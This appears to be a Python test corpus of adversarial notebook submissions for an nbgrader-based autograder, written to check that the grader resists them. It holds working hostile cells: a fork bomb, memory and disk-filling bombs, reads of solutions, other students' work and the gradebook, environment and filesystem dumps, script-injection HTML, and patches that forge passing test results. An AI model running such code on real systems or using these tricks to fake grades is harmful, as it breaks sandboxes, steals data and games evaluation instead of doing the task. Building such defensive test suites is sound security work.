"""The adversarial corpus: submissions that try to break, fool or escape the grader.

Each case is a :class:`~vae_grader.submissions.Submission` built from the release and the
master like the demo set, with

* ``expected``: the fair grade per graded cell, reasoned from the tests (cells not listed score 0;
  ``lost`` says why each of those scores nothing). The fair grade is what the submission really
  earns: never more, and a crash, timeout or trick in one cell costs only what depends on it;
* ``expected_feedback``: phrases the student's feedback page must contain, i.e. the message that
  tells them what happened;
* :data:`FLAGGED`: the cases nbgrader must leave flagged for manual grading (the grader could not
  grade them as far as the tests go, so it says so rather than silently scoring 0).

Grading time is what limits the corpus (each case is a separate ``nbgrader autograde`` with its
own kernel), so the cases are built on :data:`FAST` (every part that needs no training, filled in
from the master) where they must show that a crash or trick leaves the other parts' points
intact, and on :data:`ENCODER` (part 1 only) where one part is enough; the parts left out are
unanswered and score 0. Only ``crash_after_training`` trains (twice: the crash after training
forces a replay). :data:`ESCAPES` lists the cases that attack the machine rather than the grade
(their cells print one ``ESCAPE-...`` line per attempt), which tests/test_adversarial.py checks.

The tests of this corpus live in tests/test_adversarial.py; ``python -m vae_grader.apps.demo``
grades it together with the demo set.
"""

from __future__ import annotations

import copy
import dataclasses
import os
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from vae_grader.cells import require_cell
from vae_grader.paths import MASTER
from vae_grader.submissions import PARTS, Submission, test_cells
from vae_samples.kit import NOT_ATTEMPTED, filled, full_points

_MASTER = nbformat.read(MASTER, as_version=4)

FAST = ("encoder", "sampling", "decoder", "loss_layer", "vae_model", "data")
"""The parts whose tests pass without training (vae_model and the hidden manifold test use stand-ins)."""
ENCODER = ("encoder",)

Builder = Callable[[NotebookNode, NotebookNode], NotebookNode | bytes]


# --- building blocks ---------------------------------------------------------------------------------


def _index(nb: NotebookNode, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def then(base: Builder, *steps: Callable[[NotebookNode], None]) -> Builder:
    """``base``'s notebook, changed in place by each step in turn."""

    def build(master: NotebookNode, release: NotebookNode) -> NotebookNode:
        nb = base(master, release)
        assert isinstance(nb, NotebookNode)
        nb = copy.deepcopy(nb)
        for step in steps:
            step(nb)
        return nb

    return build


def _new_cell(source: str, cell_id: str) -> NotebookNode:
    """A plain code cell with a fixed id (nbformat would draw a random one), so builds are reproducible."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = cell_id
    return cell


def add_cell_after(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    """A step: a plain student cell (no nbgrader metadata) right after the cell ``grade_id``."""

    def step(nb: NotebookNode) -> None:
        nb.cells.insert(
            _index(nb, grade_id) + 1, _new_cell(source, f"added-after-{grade_id}-{len(nb.cells)}")
        )

    return step


def delete_cells(*grade_ids: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        nb.cells = [
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids
        ]

    return step


def duplicate_cell(grade_id: str) -> Callable[[NotebookNode], None]:
    """Copy-paste a cell, metadata included, right below itself (what Jupyter's C/V does)."""

    def step(nb: NotebookNode) -> None:
        i = _index(nb, grade_id)
        duplicate = copy.deepcopy(nb.cells[i])
        duplicate.id = (
            f"{duplicate.get('id', grade_id)}-copy"  # Jupyter gives a pasted cell a new id
        )
        nb.cells.insert(i + 1, duplicate)

    return step


def strip_metadata(grade_id: str) -> Callable[[NotebookNode], None]:
    """The cell re-typed into a fresh cell: same code, no nbgrader metadata."""

    def step(nb: NotebookNode) -> None:
        cell = nb.cells[_index(nb, grade_id)]
        nb.cells[_index(nb, grade_id)] = _new_cell(cell.source, f"retyped-{grade_id}")

    return step


def move_before(grade_id: str, before: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        cell = nb.cells.pop(_index(nb, grade_id))
        nb.cells.insert(_index(nb, before), cell)

    return step


def set_metadata(grade_id: str, **changes: object) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        require_cell(nb, grade_id).metadata["nbgrader"].update(changes)

    return step


def swap_ids(first: str, second: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        a, b = require_cell(nb, first), require_cell(nb, second)
        a.metadata["nbgrader"]["grade_id"], b.metadata["nbgrader"]["grade_id"] = second, first

    return step


def set_source(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        require_cell(nb, grade_id).source = source

    return step


def every_solution_raises(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    nb = copy.deepcopy(release)
    for part in PARTS:
        require_cell(nb, part).source = f'raise RuntimeError("part {part} is broken on purpose")'
    return nb


def raw_bytes(data: bytes) -> Builder:
    return lambda master, release: data


def empty_notebook(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata = copy.deepcopy(release.metadata)
    return nb


def _lost(parts: Iterable[str], lost: Mapping[str, str] | None) -> dict[str, str]:
    """Reasons for every graded cell that scores nothing: unattempted parts plus ``lost``."""
    parts = tuple(parts)
    reasons = {
        cell: NOT_ATTEMPTED for part in PARTS if part not in parts for cell in test_cells(part)
    }
    reasons.update(lost or {})
    return reasons


def case(
    student: str,
    description: str,
    build: Builder,
    parts: Iterable[str],
    feedback: tuple[str, ...],
    lost: Mapping[str, str] | None = None,
    filename: str = "vae.ipynb",
    partial: Mapping[str, tuple[float, str]] | None = None,
) -> Submission:
    """A corpus entry: full points for the cells of ``parts`` except those in ``lost`` (0) and ``partial``
    (``grade_id -> (points kept, why the rest is lost)``)."""
    parts = tuple(parts)
    reasons = _lost(parts, lost)
    unknown = (set(reasons) | set(partial or {})) - {
        cell for part in PARTS for cell in test_cells(part)
    }
    if unknown:
        raise ValueError(f"{student}: unknown graded cells {sorted(unknown)}")
    return Submission(
        student=student,
        description=description,
        build=build,
        expected=full_points(
            _MASTER,
            parts,
            minus=reasons,
            partial={c: kept for c, (kept, _) in (partial or {}).items()},
        ),
        filename=filename,
        expected_feedback=feedback,
        lost=reasons,
        partial={c: why for c, (_, why) in (partial or {}).items()},
    )


# --- the attacks that target the machine, not the grade ------------------------------------------------
# Each attempt prints "ESCAPE-<what>: blocked (<error>)" or "ESCAPE-<what>: SUCCEEDED"; the test
# asserts that no SUCCEEDED line exists and that the files are intact.

_ATTEMPT = """
import os
def attempt(what, action):
    try:
        result = action()
    except Exception as exc:
        print(f"ESCAPE-{what}: blocked ({type(exc).__name__}: {exc})")
    else:
        print(f"ESCAPE-{what}: SUCCEEDED ({str(result)[:60]!r})")
"""

READ_SOLUTIONS = (
    _ATTEMPT
    + """
import course, glob
course_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
repository = os.path.dirname(os.path.dirname(course.__file__))
attempt("read-source", lambda: open(os.path.join(course_root, "source", "vae", "vae.ipynb")).read())
attempt("read-repository-source", lambda: open(os.path.join(repository, "source", "vae", "vae.ipynb")).read())
attempt("read-other-student", lambda: open(os.path.join(course_root, "submitted", "complete", "vae", "vae.ipynb")).read())
attempt("list-submissions", lambda: os.listdir(os.path.join(course_root, "submitted")) or 1 / 0)
attempt("read-own-autograded-copy", lambda: open("vae.ipynb").read())
"""
)

WRITE_GRADEBOOK = (
    _ATTEMPT
    + """
import sqlite3
course_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
def raise_scores():
    db = sqlite3.connect("file:" + os.path.join(course_root, "gradebook.db") + "?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 99")
    db.commit()
    return "scores raised"
attempt("write-gradebook", raise_scores)
attempt("append-gradebook", lambda: open(os.path.join(course_root, "gradebook.db"), "ab").write(b"x"))
attempt("overwrite-other-student", lambda: open(os.path.join(course_root, "submitted", "complete", "vae", "vae.ipynb"), "w").write("{}"))
attempt("overwrite-other-autograded", lambda: open(os.path.join(course_root, "autograded", "complete", "vae", "vae.ipynb"), "w").write("{}"))
attempt("write-course-package", lambda: open(os.path.join(os.path.dirname(course.__file__), "checks.py"), "a").write("#"))
"""
)

NETWORK = (
    _ATTEMPT
    + """
import socket
attempt("network-ip", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3))
attempt("network-dns", lambda: socket.getaddrinfo("pypi.org", 443))
"""
)

ESCAPES = ("escape_attempts",)
"""Cases that attack the machine: each prints ESCAPE-... lines that must all say blocked."""


# --- the corpus --------------------------------------------------------------------------------------

_FAST = filled(FAST)
_ENCODER = filled(ENCODER)


SUBMISSIONS: list[Submission] = [
    case(
        "syntax_error",
        "a syntax error in the decoder cell (an unclosed parenthesis)",
        filled(
            FAST,
            {
                "decoder": (
                    "x = layers.Reshape(shape_before_flattening)(x)",
                    "x = layers.Reshape(shape_before_flattening(x)",
                )
            },
        ),
        FAST,
        ("SyntaxError",),
        lost={
            "test_decoder": "the decoder cell never ran: build_decoder is not defined",
            "test_decoder_hidden": "the decoder cell never ran: build_decoder is not defined",
        },
    ),
    case(
        "name_error",
        "a typo in the sampling layer (z_logvar for z_log_var): NameError when the layer is called",
        filled(FAST, {"sampling": ("ops.exp(0.5 * z_log_var)", "ops.exp(0.5 * z_logvar)")}),
        FAST,
        ("NameError",),
        lost={
            "test_sampling": "Sampling raises NameError",
            "test_sampling_hidden": "Sampling raises NameError",
            "test_vae_model": "build_vae calls the broken Sampling layer",
            "test_vae_model_hidden": "build_vae calls the broken Sampling layer",
        },
    ),
    case(
        "error_in_every_cell",
        "every solution cell replaced by a raise: nothing can pass",
        every_solution_raises,
        (),
        ("RuntimeError",),
    ),
    case(
        "infinite_loop_cell",
        "the encoder cell ends in `while True: pass` after defining everything",
        filled(
            ENCODER,
            {
                "encoder": (
                    "encoder = build_encoder()\n",
                    "encoder = build_encoder()\nwhile True:\n    pass\n",
                )
            },
        ),
        ENCODER,
        ("CellTimeoutError: the cell encoder ran longer than",),
    ),
    case(
        "loop_in_tested_function",
        "build_encoder loops forever, ignoring interrupts, when called with latent_dim=3 (only the visible test does)",
        filled(
            ENCODER,
            {
                "encoder": (
                    '    image = keras.Input(shape=(28, 28, 1), name="image")',
                    "    while latent_dim == 3:\n"
                    "        try:\n"
                    '            __import__("time").sleep(0.2)\n'
                    "        except KeyboardInterrupt:\n"
                    "            pass\n"
                    '    image = keras.Input(shape=(28, 28, 1), name="image")',
                )
            },
        ),
        ENCODER,
        (
            "CellTimeoutError: the cell test_encoder ran longer than",
            "did not stop when interrupted",
        ),
        lost={
            "test_encoder": "build_encoder(3) never returns: the test is stopped at the time limit"
        },
    ),
    case(
        "memory_bomb",
        "a cell that asks for 12 GiB at once",
        then(
            _ENCODER,
            add_cell_after(
                "test_encoder_hidden",
                "import numpy as np\nballast = np.ones(12 * 2**30 // 8)\nprint(ballast.sum())",
            ),
        ),
        ENCODER,
        ("MemoryError",),
    ),
    case(
        "fork_bomb",
        "a cell whose children fork until the process limit, and keep trying",
        then(
            _ENCODER,
            add_cell_after(
                "test_encoder_hidden",
                (
                    "import os, time\nforked = 0\nwhile True:\n    try:\n        pid = os.fork()\n"
                    "    except OSError as exc:\n        print(f'fork failed after {forked}: {exc}')\n        break\n"
                    "    if pid == 0:\n        while True:\n            try:\n                os.fork()\n"
                    "            except OSError:\n                time.sleep(0.05)\n    forked += 1"
                ),
            ),
        ),
        ENCODER,
        ("StrayProcesses",),
    ),
    case(
        "os_exit",
        "os._exit(1) right after the decoder cell: the tests after it need the replayed state",
        then(_FAST, add_cell_after("decoder", "import os\nos._exit(1)")),
        FAST,
        (
            "KernelDied: your cell that starts with",
            "stopped the kernel (the Python process exited with code 1)",
        ),
    ),
    case(
        "crash_after_training",
        "the complete notebook with os._exit(1) right after training: the manifold tests need the trained decoder back",
        then(filled(PARTS), add_cell_after("test_training_hidden", "import os\nos._exit(1)")),
        PARTS,
        ("KernelDied",),
    ),
    case(
        "sys_exit",
        "sys.exit() in a cell of its own",
        then(
            _ENCODER,
            add_cell_after("test_encoder_hidden", "import sys\nsys.exit('done for today')"),
        ),
        ENCODER,
        ("SystemExit",),
    ),
    case(
        "ipython_exit",
        "exit() right after the decoder cell: IPython stops the kernel just after it replies, so the "
        "kernel can look alive for one more request; the cell must not be replayed",
        then(_FAST, add_cell_after("decoder", "exit()")),
        FAST,
        ("KernelStopped: your cell that starts with", "ended the kernel (exit(), quit()"),
    ),
    case(
        "kill_parent",
        "a cell that kills the kernel's parent process, then one that kills its own process group",
        then(
            _FAST,
            add_cell_after(
                "test_sampling_hidden", "import os, signal\nos.killpg(0, signal.SIGKILL)"
            ),
            add_cell_after(
                "test_sampling_hidden", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
            ),
        ),
        FAST,
        ("calls os.kill()", "calls os.killpg()", "KernelDied"),
    ),
    case(
        "huge_output",
        "the encoder cell prints 40 MB",
        filled(
            ENCODER,
            {
                "encoder": (
                    "encoder = build_encoder()\n",
                    "encoder = build_encoder()\nfor i in range(40):\n    print('spam, spam, eggs and spam\\n' * 40_000)\n",
                )
            },
        ),
        ENCODER,
        ("output truncated by the grader",),
    ),
    case(
        "deleted_test_cells",
        "two test cells deleted (a visible and a hidden one)",
        then(_FAST, delete_cells("test_encoder_hidden", "test_decoder")),
        FAST,
        ("were put back and graded",),
    ),
    case(
        "duplicated_cells",
        "the encoder cell and a test cell copy-pasted with their metadata (the copies edited)",
        then(_FAST, duplicate_cell("encoder"), duplicate_cell("test_sampling")),
        FAST,
        ("more than one encoder cell", "appeared 2 times"),
    ),
    case(
        "retyped_cells",
        "the sampling cell and a test cell re-typed into fresh cells (no metadata)",
        then(_FAST, strip_metadata("sampling"), strip_metadata("test_encoder")),
        FAST,
        ("had lost its grading tag",),
    ),
    case(
        "reordered_cells",
        "the decoder cell dragged to the top, a test above the cell it tests",
        then(_FAST, move_before("decoder", "setup"), move_before("test_loss_layer", "loss_layer")),
        FAST,
        ("out of order",),
    ),
    case(
        "tampered_metadata",
        "points raised to 100, grade flags flipped, and the grade_ids of two solution cells swapped",
        then(
            _FAST,
            set_metadata("test_encoder", points=100),
            set_metadata("test_sampling_hidden", grade=False),
            set_metadata("data", grade=True, points=50),
            swap_ids("decoder", "loss_layer"),
        ),
        FAST,
        ("graded with the original metadata", "recognised by its content"),
    ),
    case(
        "edited_test_cells",
        "the locked decoder tests replaced by prints that claim success",
        then(
            _ENCODER,
            set_source("test_decoder", 'print("Part 3 self-check passed.")'),
            set_source("test_decoder_hidden", "pass"),
        ),
        ENCODER,
        ("had been edited",),
    ),
    case(
        "patch_helpers",
        "a wrong sampler (exp(z_log_var)) plus a cell that disables checks.expect_close and numpy.testing.assert_allclose",
        then(
            filled(FAST, {"sampling": ("ops.exp(0.5 * z_log_var)", "ops.exp(z_log_var)")}),
            add_cell_after(
                "sampling",
                "checks.expect_close = lambda *args, **kwargs: None\nimport numpy.testing\n"
                "numpy.testing.assert_allclose = lambda *args, **kwargs: None",
            ),
        ),
        FAST,
        ("the variance of 20,000 draws", "the 0.5 is missing"),
        lost={
            "test_sampling": "the standard deviation of 4,000 draws at z_log_var = log 4 is 4, not 2"
        },
        partial={
            "test_sampling_hidden": (
                1.5,
                "the statistics (2 points) and the gradient (0.5) fail: exp(z_log_var) as the "
                "s.d.; the patched helpers change nothing, the verdict is reached outside "
                "the kernel",
            )
        },
    ),
    case(
        "patch_course_package",
        "untrained model plus a cell that makes course.quality.reconstruction_report report a perfect model",
        then(
            _FAST,
            add_cell_after(
                "data",
                (
                    "import course.quality, types\n"
                    "course.quality.reconstruction_report = lambda *a, **k: types.SimpleNamespace(ratio=0.1, top5=0.9)"
                ),
            ),
        ),
        FAST,
        ("history is not defined",),
    ),
    case(
        "escape_attempts",
        "a cell that tries to read the solutions and another student's notebook, raise its scores in the gradebook, "
        "overwrite another student's files and the course package, and reach the network",
        then(
            _ENCODER,
            add_cell_after("test_encoder_hidden", READ_SOLUTIONS + WRITE_GRADEBOOK + NETWORK),
        ),
        ENCODER,
        (
            "ESCAPE-read-source: blocked",
            "ESCAPE-read-other-student: blocked",
            "ESCAPE-write-gradebook: blocked",
            "ESCAPE-overwrite-other-student: blocked",
            "ESCAPE-network-ip: blocked",
        ),
    ),
    case(
        "not_json",
        "a file that is not JSON (a truncated save)",
        raw_bytes(
            b'{\n "cells": [\n  {\n   "cell_type": "code",\n   "source": ["def build_encoder('
        ),
        (),
        ("could not be read as a notebook",),
    ),
    case(
        "empty_notebook",
        "a valid notebook with no cells",
        empty_notebook,
        (),
        ("contained none of the assignment",),
    ),
    case(
        "wrong_filename",
        "the complete fast parts, submitted as 'VAE (1).ipynb'",
        _FAST,
        FAST,
        ("graded as vae.ipynb",),
        filename="VAE (1).ipynb",
    ),
]

FLAGGED = {"not_json", "empty_notebook", "symlinked_notebook"}
"""Cases nbgrader must leave marked as needing manual grading (with the reason in the feedback)."""


# --- attacks on a grader whose verdicts are computed outside the student's kernel ------------
# Each case is written as a student would write it, from the release notebook and the student
# package only (plus, for the forging cases, what an earlier submission could have read of the
# grader's probe code in its own kernel and shipped to its own feedback page). ``expected`` is what
# the submission truly EARNS: 0 wherever no solution code stands behind a score. Where the grader
# gives more, the case fails, and the failure is the finding (see tests/test_judge_attacks.py).


@dataclass(frozen=True)
class Link:
    """A symbolic link in the submission folder, pointing at ``target`` (relative to the folder, or absolute)."""

    target: str


@dataclass(frozen=True)
class HardLink:
    """A second name, in the submission folder, for the file ``target`` (relative to the folder)."""

    target: str


@dataclass(frozen=True)
class SubmissionWithFiles(Submission):
    """A submission with files beside the notebook (the pipeline calls :meth:`write_files` after the notebook)."""

    files: Mapping[str, bytes | Link | HardLink] = field(default_factory=dict)

    def write_files(self, folder: Path) -> None:
        for name, content in self.files.items():
            path = Path(folder) / name
            if path.is_symlink() or path.exists():
                path.unlink()
            if isinstance(content, Link):
                os.symlink(content.target, path)
            elif isinstance(content, HardLink):
                target = (Path(folder) / content.target).resolve()
                if (
                    target.is_file()
                ):  # e.g. the gradebook, which generate_assignment created before submission
                    os.link(target, path)
            else:
                path.write_bytes(content)


def with_files(
    submission: Submission, files: Mapping[str, bytes | Link | HardLink]
) -> SubmissionWithFiles:
    fields = {f.name: getattr(submission, f.name) for f in dataclasses.fields(Submission)}
    return SubmissionWithFiles(**fields, files=dict(files))


def release_only(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    """The release notebook as handed out: no solution code at all."""
    return copy.deepcopy(release)


def add_markdown_after(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        cell = nbformat.v4.new_markdown_cell(source)
        cell.id = f"markdown-after-{grade_id}-{len(nb.cells)}"
        nb.cells.insert(_index(nb, grade_id) + 1, cell)

    return step


def append_cells(*sources: str) -> Callable[[NotebookNode], None]:
    """A step: student cells at the very end of the notebook."""

    def step(nb: NotebookNode) -> None:
        for source in sources:
            nb.cells.append(_new_cell(source, f"appended-{len(nb.cells)}"))

    return step


NOTHING_EARNED = "no solution code: an attack on the grader earns nothing"

SKIP_TESTS_TRANSFORMER = '''
import IPython

def leading_empty_lines(lines):
    """Looks like IPython's own cleanup transformer; turns every grader cell into `pass`."""
    text = "".join(lines)
    if any(word in text for word in ("selfcheck", "Hidden tests", "probing", "grader probe", "check_here")):
        return ["pass\\n"]
    return lines

leading_empty_lines.__module__ = "IPython.core.inputtransformer2"  # the name an integrity check would trust
IPython.get_ipython().input_transformers_cleanup.append(leading_empty_lines)
print("transformer installed")
'''

SESSION_SEND_REWRITE = '''
import jupyter_client.session as _session

_real_send = _session.Session.send

def _send(self, stream, msg_or_type, content=None, *args, **kwargs):
    """Every error reply becomes ok, every error output disappears."""
    if msg_or_type == "error":
        return None
    if isinstance(msg_or_type, dict) and msg_or_type.get("content", {}).get("status") == "error":
        msg_or_type["content"] = {"status": "ok", "execution_count": msg_or_type["content"].get("execution_count", 0),
                                  "user_expressions": {}, "payload": []}
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count", 0), "user_expressions": {}, "payload": []}
    return _real_send(self, stream, msg_or_type, content, *args, **kwargs)

_session.Session.send = _send
print("Session.send patched")
'''

JSON_AND_USER_EXPRESSIONS = (
    """
import json, IPython

_real_dumps = json.dumps

def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("status") == "error":
        obj = {**obj, "status": "ok"}
    return _real_dumps(obj, *args, **kwargs)

json.dumps = _dumps
_shell = IPython.get_ipython()
_shell.user_expressions = lambda expressions: {
    name: {"status": "ok", "data": {"text/plain": "True"}, "metadata": {}} for name in expressions}
print("json.dumps and user_expressions replaced")
"""
    + SKIP_TESTS_TRANSFORMER
)

SHADOW_COURSE_MODULE = b'''"""A course.py beside the notebook: if the kernel imports it, every check passes."""
print("SHADOW-COURSE-LOADED")


class _Yes:
    def __getattr__(self, name):
        return _Yes()

    def __call__(self, *args, **kwargs):
        return _Yes()

    def __iter__(self):
        return iter(())


def __getattr__(name):
    return _Yes()
'''

# What the grader's probes look like, as a student can learn them from course/selfcheck/ and
# course/probing.py, and (the hidden ones) from the probe code its kernel receives, which a
# transformer can record and a later cell can print into the feedback page (case interpreter_dump).
FORGE_PROBES = """
import numpy as np
import course
import course.selfcheck as _selfcheck

_real_run_probe = _selfcheck.run_probe
_rng = np.random.default_rng(0)
_epochs = course.training_budget().epochs

def _sampling():
    return {"errors.json": {}, "z": 3 + _rng.normal(size=(4, 2)), "z_tiny": np.full((4, 2), 3.0),
            "z_again": 3 + _rng.normal(size=(4, 2))}

def _sampling_hidden():
    z = _rng.normal(size=(8, 2))
    return {"errors.json": {},
            "draws": np.array([1.0, -2.0]) + np.sqrt([4.0, 0.25]) * _rng.normal(size=(20000, 2)),
            "seeded.first": np.ones((5, 2)), "seeded.second": np.ones((5, 2)),
            "grad.mean": np.ones((8, 2)), "grad.z": z, "grad.log_var": 0.5 * (z - np.array([0.5, -1.0])),
            "restored.json": {"same_class": True, "seed": 9}}

FORGERIES = {
    "probe_sampling": _sampling,
    "probe_sampling_hidden": _sampling_hidden,
    "probe_vae_model": lambda: {"errors.json": {}, "type": "Functional", "is_model": True,
                                "input_shape.json": [None, 28, 28, 1], "compiled": True, "loss": 0.69},
    "probe_vae_model_hidden": lambda: {"errors.json": {}, "learning_rate": 3e-3, "fit_loss": 0.69, "decoder_changed": True,
                                       "layers.json": ["InputLayer", "Functional", "Sampling", "Functional", "CustomVariationalLayer"],
                                       "uses_given.json": [True, True]},
    "probe_training": lambda: {"errors.json": {}, "history.json": {"loss": [0.3] * _epochs, "val_loss": [0.25] * _epochs},
                               "trained_loss": 0.25, "fresh_loss": 0.69},
    "probe_manifold": lambda: {"errors.json": {}, "type": "ndarray",
                               "manifold": _rng.uniform(0, 1, (420, 420)).astype("float32")},
}

def _forged_run_probe(probe, namespace):
    forge = FORGERIES.get(getattr(probe.probe, "__name__", ""))
    return forge() if forge else _real_run_probe(probe, namespace)

_selfcheck.run_probe = _forged_run_probe
print("probes forged")
"""

DISPLAY_SLOTS = '''
from IPython.display import display
import course.probing as _probing

_real_emit, _calls = _probing.emit, [0]

def _emit_with_slots(data):
    """Before the real answer, two outputs: the second has a display_id, i.e. a slot to fill in later."""
    display({"text/plain": ""}, raw=True)
    display({"text/plain": ""}, raw=True, display_id=f"slot{_calls[0]}")
    _calls[0] += 1
    _real_emit(data)

_probing.emit = _emit_with_slots
'''

FILL_SLOT = """
from IPython.display import display
# The probe of test_encoder_hidden was the second one: its slot sits where a partial grade is written.
display({"text/plain": "3"}, raw=True, display_id="slot1")
"""

RECORD_EVERY_SOURCE = """
import IPython
seen_sources = []

def leading_empty_lines(lines):
    seen_sources.append("".join(lines))
    return lines

IPython.get_ipython().input_transformers_cleanup.insert(0, leading_empty_lines)
"""

DUMP_INTERPRETER = """
import base64, json, os, sqlite3, sys, zlib
import IPython

ip = IPython.get_ipython()
state = {
    "seen_sources": seen_sources, "In": list(In), "_ih": list(_ih),
    "Out": {str(k): repr(v)[:2000] for k, v in Out.items()}, "_oh": {str(k): repr(v)[:2000] for k, v in _oh.items()},
    "_dh": [str(d) for d in _dh], "modules": sorted(sys.modules), "globals": sorted(globals()),
    "environ": dict(os.environ), "cwd": os.getcwd(), "argv": sys.argv, "path": sys.path,
}
try:
    history = ip.history_manager
    state["hist_file"] = str(history.hist_file)
    state["history"] = [list(map(str, row)) for row in history.get_range(raw=True, output=True)]
    if os.path.isfile(str(history.hist_file)):
        with sqlite3.connect(str(history.hist_file)) as db:
            state["history_db"] = [list(map(str, row)) for row in db.execute("SELECT * FROM history")]
except Exception as exc:
    state["history_error"] = repr(exc)

skip = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
folders, files = [], []
for folder, dirs, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        dirs[:] = []
        continue
    folders.append(folder)
    if not folder.startswith(skip):
        files += [os.path.join(folder, name) for name in names]
state["folders"], state["files"] = folders, files

blob = json.dumps(state, default=repr).encode()
print("STATE-B64-ZLIB:" + base64.b64encode(zlib.compress(blob, 9)).decode())
print("SOURCES-HEX:" + json.dumps(seen_sources).encode().hex())
print("SOURCES-B64:" + base64.b64encode(json.dumps(seen_sources).encode()).decode())
print("SOURCES-PLAIN:", seen_sources)
print("ENVIRONMENT:", json.dumps(dict(os.environ)))
"""

ENVIRONMENT_DUMP = """
import os
for name, value in sorted(os.environ.items()):
    print(f"ENV {name}={value}")
"""

READ_THROUGH_LINKS = (
    _ATTEMPT
    + """
for name in ("gradebook.db", "gradebook_copy.db", "classmate.ipynb", "master.ipynb", "root_bashrc", "source_dir/vae/vae.ipynb"):
    attempt(f"read-link-{name.split('/')[0]}", lambda name=name: open(name, "rb").read(64) or 1 / 0)
attempt("list-beside", lambda: [n for n in os.listdir(".") if n != "vae.ipynb"] or 1 / 0)
"""
)

HTML_OUTPUTS = """
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>window.VAEPWN_SCRIPT = 1</script><img src="x" onerror="window.VAEPWN_ONERROR = 1">'
             '<a href="javascript:window.VAEPWN_LINK = 1">click</a>'))
display(Javascript("window.VAEPWN_JS = 1"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.VAEPWN_SVG = 1"><circle r="4"/></svg>'))
print("HTML-CASE-VISIBLE")
"""

HTML_MARKDOWN = (
    "Notes <script>window.VAEPWN_MD_SCRIPT = 1</script>\n\n"
    '<img src="x" onerror="window.VAEPWN_MD_ONERROR = 1"> '
    '<iframe src="javascript:window.VAEPWN_MD_IFRAME = 1"></iframe> '
    "[link](javascript:window.VAEPWN_MD_LINK=1)"
)

MARKER_TEXT = """### BEGIN HIDDEN TESTS
print("MARKER-CELL-RAN")
### END HIDDEN TESTS
"""

FIT_IN_A_COMMENT = """# the training comes later: history = vae.fit(x_train, None, epochs=budget.epochs)
while True:
    pass
"""

FILL_DISKS = """
import os, ipykernel.connect

def fill(folder, label, megabytes=800):
    written, error = 0, "no error"
    chunk = b"\\0" * 2**20
    try:
        for index in range(megabytes // 100):
            with open(os.path.join(folder, f"ballast-{index}.bin"), "wb") as handle:
                for _ in range(100):
                    handle.write(chunk)
                    written += 1
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"[:120]
    print(f"DISK-{label}: wrote {written} MB ({error})")

fill("/tmp", "tmp")
fill(".", "cwd")
fill("/dev/shm", "shm")
fill(os.path.dirname(ipykernel.connect.get_connection_file()), "runtime")
"""

CRASH = "import os\nos._exit(3)"

_HAND_MADE_HISTORY = (
    'x_val = None\nimport types\nhistory = types.SimpleNamespace(history={"loss": [0.3] * budget.epochs, '
    '"val_loss": [0.25] * budget.epochs})\n'
)
_NOISE_MANIFOLD = "manifold = np.random.default_rng(0).uniform(0, 1, (420, 420))\n"

FORGED_VISIBLE = {
    "test_training": "a hand-made history and no trained model: the check reconstructs test digits with the saved "
    "encoder and decoder against fresh weights",
    "test_manifold": "random noise, not decoded by any decoder: the check lays out codes through build_manifold with a "
    "probe decoder, which still raises NotImplementedError",
}

JUDGE_ATTACKS: list[Submission] = [
    case(
        "transformer_trusted_name",
        "no solution code; an input transformer named like IPython's own turns every test cell and probe into `pass`",
        then(release_only, add_cell_after("setup", SKIP_TESTS_TRANSFORMER)),
        (),
        ("gave the grader no answer",),
    ),
    case(
        "session_send_rewrite",
        "no solution code; jupyter_client's Session.send patched in the kernel to turn every error reply into ok",
        then(release_only, add_cell_after("setup", SESSION_SEND_REWRITE)),
        (),
        ("NotImplementedError",),
    ),
    case(
        "json_and_user_expressions",
        "no solution code; json.dumps patched, shell.user_expressions shadowed, then the test-skipping transformer",
        then(release_only, add_cell_after("setup", JSON_AND_USER_EXPRESSIONS)),
        (),
        ("gave the grader no answer",),
    ),
    with_files(
        case(
            "course_module_beside",
            "the untouched release notebook plus a course.py beside it that makes every check pass if imported",
            release_only,
            (),
            ("NotImplementedError",),
        ),
        {"course.py": SHADOW_COURSE_MODULE},
    ),
    with_files(
        case(
            "symlinked_notebook",
            "vae.ipynb submitted as a symbolic link to ../../../source/vae/vae.ipynb (the master)",
            raw_bytes(b"my notebook is vae.ipynb\n"),
            (),
            ("vae.ipynb was a symbolic link", "graded as missing"),
            filename="README.txt",
        ),
        {"vae.ipynb": Link("../../../source/vae/vae.ipynb")},
    ),
    case(
        "lambda_stand_ins",
        "encoder = lambda x: (x, x), decoder = lambda z: z, a hand-made history and a noise manifold; no solution code",
        then(
            release_only,
            set_source("encoder", "encoder = lambda x: (x, x)\n"),
            set_source("decoder", "decoder = lambda z: z\n"),
            set_source("training", _HAND_MADE_HISTORY),
            set_source("manifold", _NOISE_MANIFOLD),
        ),
        (),
        ("should return a keras.Model",),
